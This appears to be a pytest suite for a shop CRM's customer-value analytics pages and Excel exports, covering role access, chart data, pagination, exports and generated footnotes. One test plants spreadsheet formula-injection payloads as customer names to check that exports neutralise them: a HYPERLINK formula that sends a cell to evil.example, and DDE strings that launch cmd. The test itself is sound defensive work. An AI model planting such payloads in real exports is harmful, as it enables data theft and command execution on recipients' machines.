"""Customer-value pages: each shows the numbers of the insights service for a real `run_analysis`, the empty state,
who may see and start an analysis, the Excel exports and the customer page's value card."""

from __future__ import annotations

import io
import json
import re
from datetime import date, datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from shopcx.core.money import format_minor
from shopcx.insights import service
from shopcx.insights.pages import run as pages_run
from shopcx.insights.pages.format import percent

from ..factories import make_order, make_shop

AS_OF = date(2026, 3, 31)
NOON = datetime(2026, 3, 31, 4, 0, tzinfo=timezone.utc)  # 12:00 in Asia/Shanghai

# name: [(days before AS_OF, yuan), ...]: repeat buyers, one-time buyers, long-gone buyers.
BUYERS = {
    "张伟": [(300, 320), (240, 280), (180, 300), (120, 260), (60, 310), (5, 290)],
    "王芳": [(200, 150), (140, 180), (90, 160), (20, 170)],
    "李娜": [(400, 900), (330, 880), (250, 910)],
    "刘洋": [(150, 60), (100, 80), (45, 70)],
    "陈静": [(500, 1200), (470, 1500)],
    "杨磊": [(80, 90), (12, 95)],
    "赵敏": [(30, 40)],
    "黄强": [(10, 55)],
    "周婷": [(350, 75)],
    "吴刚": [(600, 2400)],
    "徐丽": [(220, 130), (160, 120), (110, 140), (70, 150), (35, 135)],
    "孙杰": [(260, 45), (25, 50)],
}


def _line(yuan: int) -> list[dict]:
    return [{"sku": "TEA-1", "name": "龙井", "quantity": 1, "unit_price_amount": yuan * 100}]


@pytest.fixture(autouse=True)
def _quiet_analysis_state():
    """Each test starts with no page-started analysis in this process, and runs one inside the request."""
    pages_run._set_state(pages_run.AnalysisState())
    runner = pages_run.runner
    pages_run.runner = pages_run.analyse_quietly
    yield
    pages_run.runner = runner
    pages_run._set_state(pages_run.AnalysisState())


@pytest.fixture
def value_shop(session):
    """Twelve buyers of one Taobao shop with the histories in BUYERS, plus one customer who never ordered."""
    shop = make_shop(session, code="tea", name="龙井茶庄")
    ids = {}
    for n, (name, orders) in enumerate(BUYERS.items()):
        for days, yuan in orders:
            order = make_order(session, shop, customer={"source": "taobao", "external_id": f"v-{name}", "name": name,
                                                        "phone": f"1380013{n:04d}"},
                               placed_at=NOON - timedelta(days=days), lines=_line(yuan))
            ids[name] = order.customer_id
    session.flush()
    return {"shop": shop, "ids": ids}


@pytest.fixture
def analysed(value_shop):
    """Two runs: a month before AS_OF and at AS_OF (the latest)."""
    earlier = service.run_analysis(as_of=AS_OF - timedelta(days=30))
    latest = service.run_analysis(as_of=AS_OF)
    assert earlier.status == "done" and latest.status == "done", (earlier.error, latest.error)
    return value_shop | {"run": latest, "earlier": earlier}


def _chart(html: str, name: str) -> dict:
    found = re.search(rf'<script type="application/json" id="{name}-data">(.*?)</script>', html, re.S)
    assert found, f"no {name} data on the page"
    return json.loads(found.group(1))


def _table(html: str, table_id: str) -> str:
    start = html.index(f'id="{table_id}"')
    return html[start:html.index("</table>", start)]


def _text(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


PAGES = ("/insights", "/insights/rfm", "/insights/lifecycle", "/insights/cohorts", "/insights/at-risk",
         "/insights/key-customers")


# --- who may see what -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [*PAGES, "/insights/export/scores.xlsx", "/insights/progress"])
def test_signed_out_visitors_go_to_sign_in(client, url):
    page = client.get(url, follow_redirects=False)
    assert page.status_code == 303
    assert page.headers["location"].startswith("/login?next=/insights")


@pytest.mark.parametrize("role", ["owner", "manager", "agent", "operations", "analyst"])
def test_every_role_may_read_the_pages(login, analysed, role):
    staff = login(role)
    for url in PAGES:
        assert staff.get(url).status_code == 200, url


def test_a_role_without_customers_read_gets_403(login, analysed, monkeypatch):
    from shopcx.staff import rules

    staff = login("analyst")
    monkeypatch.setitem(rules.PERMISSIONS, "analyst", frozenset({"orders:read"}))
    page = staff.get("/insights")
    assert page.status_code == 403 and "无权访问" in page.text
    assert staff.get("/insights/export/scores.xlsx").status_code == 403


def test_unknown_run_and_export_are_404(login, analysed):
    staff = login("owner")
    assert staff.get("/insights?run=999999").status_code == 404
    assert staff.get("/insights?run=abc").status_code == 404
    assert staff.get("/insights/export/passwords.xlsx").status_code == 404


# --- the empty state and starting an analysis from the page ------------------------------------------------------


def test_empty_state_tells_how_to_analyse(login, value_shop):
    staff = login("owner")
    page = staff.get("/insights")
    assert page.status_code == 200
    assert 'id="insights-empty"' in page.text and "shopcx analyze" in page.text
    assert 'id="run-analysis"' in page.text and 'action="/insights/run"' in page.text
    for url in PAGES[1:]:
        assert 'id="insights-empty"' in staff.get(url).text


@pytest.mark.parametrize("role, button", [("owner", True), ("manager", True), ("operations", True),
                                          ("agent", False), ("analyst", False)])
def test_only_roles_that_import_see_the_run_button(login, value_shop, role, button):
    html = login(role).get("/insights").text
    assert "shopcx analyze" in html
    assert ('id="run-analysis"' in html) is button


def test_owner_starts_an_analysis_from_the_page(login, value_shop, session):
    staff = login("owner")
    response = staff.post("/insights/run")
    assert response.status_code == 303 and response.headers["location"] == "/insights"
    assert pages_run.state().status == "done"
    page = staff.get("/insights")
    run = service.latest_run(session)
    assert run is not None and 'id="insights-empty"' not in page.text
    assert f"计算基准日：{run.as_of_on.isoformat()}" in page.text
    progress = staff.htmx_get("/insights/progress", target="analysis-progress")
    assert progress.headers.get("HX-Redirect") == "/insights"


def test_starting_an_analysis_needs_the_right_role_and_the_form_token(login, value_shop):
    analyst = login("analyst")
    assert analyst.post("/insights/run").status_code == 403
    owner = login("owner", username="boss")
    forged = owner.client.post("/insights/run", data={"csrf_token": "forged"}, follow_redirects=False)
    assert forged.status_code == 403
    assert pages_run.state().status == "idle"


def test_a_second_analysis_waits_for_the_first(login, value_shop):
    pages_run._set_state(pages_run.AnalysisState(status="running", started_at=NOON))
    staff = login("owner")
    page = staff.get("/insights")
    assert 'id="analysis-progress"' in page.text and 'hx-get="/insights/progress"' in page.text
    assert 'id="run-analysis"' not in page.text
    assert staff.htmx_post("/insights/run").status_code == 409


def test_a_failed_analysis_is_shown(login, value_shop, monkeypatch):
    def broken(**_):
        raise RuntimeError("disk full")

    monkeypatch.setattr(service, "run_analysis", broken)
    staff = login("owner")
    staff.post("/insights/run")
    assert pages_run.state().status == "failed"
    assert "分析失败：RuntimeError: disk full" in staff.get("/insights").text


# --- the pages show the service's numbers -------------------------------------------------------------------------


def test_overview_shows_distribution_pareto_totals_and_model(login, analysed, session):
    run = analysed["run"]
    figures = service.value_overview(session, run)
    html = login("analyst").get("/insights").text
    assert "计算基准日：2026-03-31" in html
    totals = figures["totals"]
    assert re.search(rf'id="total-customers">\s*{totals["customers"]}<', html)
    assert totals["customers"] == len(BUYERS)
    assert format_minor(totals["clv_amount"], "CNY") in html
    pareto = figures["pareto"]
    assert percent(pareto["top20_share"]) in _text(html[html.index('id="pareto-sentence"'):])
    sentence = _text(html[html.index('id="pareto-sentence"'):html.index("</p>", html.index('id="pareto-sentence"'))])
    assert f"价值最高的 20% 客户贡献了 {percent(pareto['top20_share'])} 的收入" in sentence
    assert f"价值最低的 30% 客户只贡献了 {percent(pareto['bottom30_share'])}" in sentence

    histogram = _chart(html, "clv-chart")
    assert histogram["customers"] == [b["customers"] for b in figures["clv_histogram"]]
    assert sum(histogram["customers"]) == len(BUYERS)
    assert "<td class=\"num\">" in _table(html, "clv-table")
    lorenz = _chart(html, "lorenz-chart")
    assert len(lorenz["points"]) == len(figures["lorenz"])
    assert lorenz["points"][0] == [0, 0] and lorenz["points"][-1] == [100, 100]

    model = _table(html, "model-table")
    bgnbd = figures["model"]["bgnbd"]
    assert f"{bgnbd['r']:,.4f}" in model and f"{bgnbd['alpha']:,.4f}" in model and "对数似然" in model


def test_rfm_page_heat_map_and_segments(login, analysed, session):
    grid = service.rfm_grid(session, analysed["run"])
    html = login("analyst").get("/insights/rfm").text
    chart = _chart(html, "rfm-chart")
    by_cell = {(c["r"], c["f"]): c["customers"] for c in grid["cells"]}
    assert {(cell[1] + 1, cell[0] + 1): cell[2] for cell in chart["cells"]} == by_cell
    assert sum(cell[2] for cell in chart["cells"]) == len(BUYERS)
    table = _table(html, "segment-table")
    for segment in grid["segments"]:
        slug = re.sub(r"[^a-z]+", "_", segment["segment"].lower().replace("'", ""))
        row = table[table.index(f'data-segment="{slug}"'):]
        row = row[:row.index("</tr>")]
        assert f'<td class="num">{segment["customers"]}</td>' in row
        assert format_minor(segment["clv_amount"], "CNY") in row
    assert "冠军客户" in table and "不能失去" in table and "沉睡客户" in table


def test_lifecycle_page_funnel_and_movements(login, analysed, session):
    figures = service.lifecycle(session, analysed["run"])
    html = login("analyst").get("/insights/lifecycle").text
    funnel = _chart(html, "funnel-chart")
    assert [s["stage"] for s in funnel["stages"]] == ["suspect", "prospect", "first_time", "repeat", "advocate",
                                                      "at_risk", "lost"]
    assert [s["name"] for s in funnel["stages"][:5]] == ["猜疑", "期望", "首次购买", "重复购买", "品牌宣传"]
    counts = {s["stage"]: s["customers"] for s in figures["stages"]}
    assert {s["stage"]: s["value"] for s in funnel["stages"]} == counts
    assert f"对比 {analysed['earlier'].as_of_on.isoformat()} 的分析" in html
    moved = [m for m in figures["movements"] if m["from"] != m["to"]]
    if moved:
        table = _table(html, "movement-table")
        assert len(re.findall(r"<tr><td>", table)) == len(moved)
        sankey = _chart(html, "sankey-chart")
        assert sum(link["value"] for link in sankey["links"]) == sum(m["customers"] for m in moved)
    stayed = sum(m["customers"] for m in figures["movements"] if m["from"] == m["to"])
    assert f"{stayed} 位客户阶段未变" in html


def test_lifecycle_of_the_first_run_has_no_movements(login, analysed):
    html = login("analyst").get(f"/insights/lifecycle?run={analysed['earlier'].id}").text
    assert 'id="no-previous"' in html and "计算基准日：2026-03-01" in html
    # Links between the tabs keep the run that is shown.
    assert f'href="/insights/rfm?run={analysed["earlier"].id}"' in html


def test_cohort_page_retention_and_revenue(login, analysed, session):
    figures = service.cohorts(session, analysed["run"])
    html = login("analyst").get("/insights/cohorts").text
    chart = _chart(html, "cohort-chart")
    assert chart["months"] == [m[:7] for m in figures["months"]]
    expected = [[j, i, round(100 * v, 1)] for i, row in enumerate(figures["retention"]) for j, v in enumerate(row)
                if v is not None and figures["sizes"][i]]
    assert chart["cells"] == expected
    assert [cell[2] for cell in chart["cells"] if cell[0] == 0] == [100.0] * sum(1 for n in figures["sizes"] if n)
    table = _table(html, "cohort-revenue")
    first = figures["revenue"][0][0]
    assert format_minor(first, "CNY").removesuffix(".00") in table
    assert len(re.findall(r"<tr><th>", table[table.index("<tbody>"):])) == len(figures["months"])


@pytest.mark.parametrize("url, fetch", [("/insights/at-risk", service.at_risk),
                                        ("/insights/key-customers", service.key_customers)])
def test_customer_lists_link_to_customers(login, analysed, session, url, fetch):
    rows, total = fetch(session, analysed["run"], offset=0, limit=500)
    html = login("agent").get(url).text
    table = _table(html, "customer-value-table")
    assert len(re.findall(r'<a href="/customers/\d+">', table)) == total == len(rows)
    for row in rows:
        assert f'<a href="/customers/{row["customer_id"]}">{row["name"]}</a>' in table
        assert format_minor(row["clv_amount"], "CNY") in table
    assert f"共 {total} 条" in html or total == 0


def test_long_lists_are_paginated(login, analysed, session, monkeypatch):
    from shopcx.insights.pages import reports as pages

    monkeypatch.setattr(pages, "ROWS_PER_PAGE", 2)
    staff = login("owner")
    rows, total = service.key_customers(session, analysed["run"], offset=0, limit=500)
    assert total >= 3, "the shop should have at least three key customers"
    first = staff.get("/insights/key-customers").text
    second = staff.htmx_get("/insights/key-customers?page=2").text
    assert f'<a href="/customers/{rows[0]["customer_id"]}"' in first
    assert f'<a href="/customers/{rows[2]["customer_id"]}"' in second and "<html" not in second
    assert "第 2 / " in second


def test_pages_in_english(login, analysed):
    staff = login("analyst", locale="en")
    assert "Computed for 2026-03-31" in staff.get("/insights").text
    rfm = staff.get("/insights/rfm").text
    assert "Champions" in rfm and "Segments" in rfm
    lifecycle = staff.get("/insights/lifecycle").text
    assert [s["name"] for s in _chart(lifecycle, "funnel-chart")["stages"]][:5] == [
        "Suspect", "Prospect", "First-time", "Repeat", "Advocate"]


# --- Excel exports -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("which", ["scores", "at_risk", "key_customers", "rfm", "cohorts"])
def test_exports_open_in_excel_with_header_and_rows(login, analysed, session, which):
    header, rows = service.export_rows(session, analysed["run"], which)
    rows = list(rows)
    response = login("analyst").get(f"/insights/export/{which}.xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "2026-03-31.xlsx" in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == len(rows) + 1
    titles = [cell.value for cell in sheet[1]]
    assert len(titles) == len(header)
    assert all(cell.font.bold for cell in sheet[1])
    for name, title in zip(header, titles, strict=True):
        if name.endswith("_amount"):
            assert title.endswith("(CNY)"), title


def test_score_export_has_numbers_money_in_yuan_and_masked_contacts(login, analysed, session):
    header, rows = service.export_rows(session, analysed["run"], "scores")
    rows = list(rows)
    sheet = load_workbook(io.BytesIO(login("analyst").get("/insights/export/scores.xlsx").content)).active
    titles = [cell.value for cell in sheet[1]]
    assert titles[:4] == ["客户 ID", "姓名", "生命周期阶段", "RFM 分群"]
    clv = header.index("clv_amount")
    assert titles[clv] == "12 个月 CLV (CNY)"
    first = [cell.value for cell in sheet[2]]
    assert first[0] == rows[0][0] and isinstance(first[0], int)
    assert first[clv] == pytest.approx(rows[0][clv] / 100)
    assert isinstance(first[header.index("p_alive")], float)
    assert first[header.index("orders")] == rows[0][header.index("orders")]
    assert first[2] in ("首次购买", "重复购买", "有流失风险", "已流失", "品牌宣传")


def test_cohort_export_revenue_in_yuan(login, analysed, session):
    figures = service.cohorts(session, analysed["run"])
    sheet = load_workbook(io.BytesIO(login("owner").get("/insights/export/cohorts.xlsx").content)).active
    revenue = [row for row in sheet.iter_rows(min_row=2, values_only=True) if str(row[1]).startswith("收入")]
    assert revenue[0][1] == "收入 (CNY)"
    assert revenue[0][3] == pytest.approx(figures["revenue"][0][0] / 100)


def test_export_of_an_earlier_run(login, analysed):
    response = login("owner").get(f"/insights/export/rfm.xlsx?run={analysed['earlier'].id}")
    assert response.status_code == 200 and "2026-03-01.xlsx" in response.headers["content-disposition"]


# --- the customer page --------------------------------------------------------------------------------------------


def test_customer_page_shows_the_value_card(login, analysed, session):
    customer_id = analysed["ids"]["张伟"]
    value = service.customer_value(session, customer_id)
    latest = value["latest"]
    html = login("agent").get(f"/customers/{customer_id}").text
    card = html[html.index('id="value-card"'):html.index("</section>", html.index('id="value-card"'))]
    stage = {"first_time": "首次购买", "repeat": "重复购买", "advocate": "品牌宣传", "at_risk": "有流失风险",
             "lost": "已流失"}[latest["stage"]]
    assert stage in card
    assert percent(latest["p_alive"]) in card
    assert format_minor(latest["clv_amount"], "CNY") in card
    assert (latest["next_purchase_on"] or "—") in card
    assert "计算基准日：2026-03-31" in card
    explanation = re.search(r'id="value-explain">(.*?)</p>', card, re.S).group(1)
    assert f"{latest['p_alive'] * 100:.0f}%" in explanation and "{" not in explanation
    trend = _chart(html, "value-trend")
    assert trend["dates"] == ["2026-03-01", "2026-03-31"]
    assert trend["p_alive"] == [round(100 * t["p_alive"], 1) for t in value["trend"]]
    assert "/static/insights.js" in html


def test_customer_page_without_an_analysis_has_no_value_card(login, value_shop):
    html = login("agent").get(f"/customers/{value_shop['ids']['张伟']}").text
    assert 'id="value-card"' not in html and "/static/insights.js" not in html


def test_value_card_in_english(login, analysed):
    html = login("owner", locale="en").get(f"/customers/{analysed['ids']['吴刚']}").text
    card = html[html.index('id="value-card"'):]
    assert "Customer value" in card and "12-month CLV" in card and "likely still a customer" in card


HOSTILE_NAMES = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A2,"详情")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+cmd|' /C calc'!A0", "-2+3"]


@pytest.mark.parametrize("which", ["scores", "at_risk", "key_customers", "rfm", "cohorts"])
def test_no_export_cell_is_a_live_formula(login, value_shop, session, which):
    """Issue 12 item 6: customers named like formulas come out as text a spreadsheet shows and never runs."""
    for n, name in enumerate(HOSTILE_NAMES):
        for days, yuan in ((200, 900), (100, 800), (3, 950)):
            make_order(session, value_shop["shop"], customer={"source": "taobao", "external_id": f"h-{n}",
                                                              "name": name}, placed_at=NOON - timedelta(days=days),
                       lines=_line(yuan))
    session.flush()
    assert service.run_analysis(as_of=AS_OF).status == "done"
    content = login("owner").get(f"/insights/export/{which}.xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    if which == "scores":
        assert set(HOSTILE_NAMES) <= texts  # shown exactly as the shop stored them
        assert all(cell.quotePrefix for cell in cells if cell.value in HOSTILE_NAMES)


# --- footnotes generated from the run's data (issue 13, item 9) --------------------------------------------------


def test_footnotes_come_from_the_data(login, analysed, session):
    client = login("analyst")
    # Orders per buyer: 1 ×4, 2 ×3, 3 ×2, 4, 5, 6: the F groups close at 4, 7, 9, 10 of 12 customers (by hand).
    rfm = _text(client.get("/insights/rfm").text)
    assert ("F1 = 1 单（4 人） · F2 = 2 单（3 人） · F3 = 3 单（2 人） · F4 = 4 单（1 人） · F5 = 5–6 单（2 人）"
            in rfm)
    cells = {(c["r"], c["f"]): c["customers"] for c in service.rfm_grid(session, analysed["run"])["cells"]}
    assert all(sum(n for (r, f), n in cells.items() if f == score) for score in range(1, 6))  # no empty F column
    # The at-risk rule with this run's numbers: the repeat buyers' gaps 30 … 235 days have the median 59.5.
    at_risk = _text(client.get("/insights/at-risk").text)
    assert "回头客需两项同时成立——存活概率低于 50.0%" in at_risk and "全店平常间隔（60 天）的 2 倍" in at_risk
    lifecycle = client.get("/insights/lifecycle").text
    counts = {s["stage"]: s["customers"] for s in service.lifecycle(session, analysed["run"])["stages"]}
    notes = _text(lifecycle[lifecycle.index('id="stage-notes"'):lifecycle.index("</ul>", lifecycle.index(
        'id="stage-notes"'))])
    assert counts["advocate"] == 0 and "品牌宣传为 0" in notes  # no referral, no review: says so, matches the table
    assert counts["prospect"] == 0 and "期望为 0" in notes
    english = _text(login("manager", locale="en").get("/insights/lifecycle").text)
    assert "No advocates: no repeat buyer referred" in english and "No prospects" in english
    assert "At risk: for a repeat buyer both must agree — P(alive) below 50.0%" in english


def test_the_advocate_note_counts_the_advocates_it_explains():
    import numpy as np

    from shopcx.insights.service.analysis import notes

    columns = {"stage": np.array(["advocate", "advocate", "repeat", "at_risk", "advocate"], dtype=object),
               "orders": np.array([2, 3, 2, 4, 5]), "f_score": np.array([1, 2, 1, 3, 4], dtype=np.int8)}
    referred = np.array([True, False, False, True, False])
    praised = np.array([True, True, False, False, True])
    params = {"at_risk_p_alive": 0.5, "lost_p_alive": 0.2, "gap_multiple": 2.0}
    out = notes(columns, params, 30.0, referred, praised)
    # the at-risk customer referred someone but is not an advocate: not counted
    assert out["advocate"] == {"customers": 3, "referred": 1, "praised": 3, "nps_recorded": False}
    assert out["frequency_breaks"][4] == {"f": 5, "customers": 0, "min_orders": None, "max_orders": None}
    assert out["at_risk_rule"]["shop_gap_days"] == 30.0
